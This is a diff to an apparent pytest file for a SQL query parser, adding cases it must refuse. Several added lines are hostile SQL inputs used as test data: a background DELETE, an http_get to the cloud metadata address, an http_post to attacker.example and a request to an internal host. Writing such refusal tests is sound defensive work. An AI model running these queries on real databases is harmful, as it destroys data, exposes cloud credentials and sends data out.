@@ -47,6 +47,11 @@ from .helpers import Caller, PgDatabase, started
         "SELECT pg_rotate_logfile_old()",
         "SELECT heap_force_kill('t'::regclass, ARRAY['(0,1)']::tid[])",
         "SELECT setseed(0.5)",
+        # extensions that reach outside the transaction or the server
+        "SELECT pg_background_launch('DELETE FROM orders')",
+        "SELECT http_get('http://169.254.169.254/latest/meta-data/')",
+        "SELECT net.http_post('https://attacker.example', '{}'::jsonb)",
+        "SELECT content FROM http(('GET', 'http://internal/', NULL, NULL, NULL)::http_request)",
     ],
 )
 def test_the_parser_refuses_functions_it_used_to_miss(query: str) -> None:
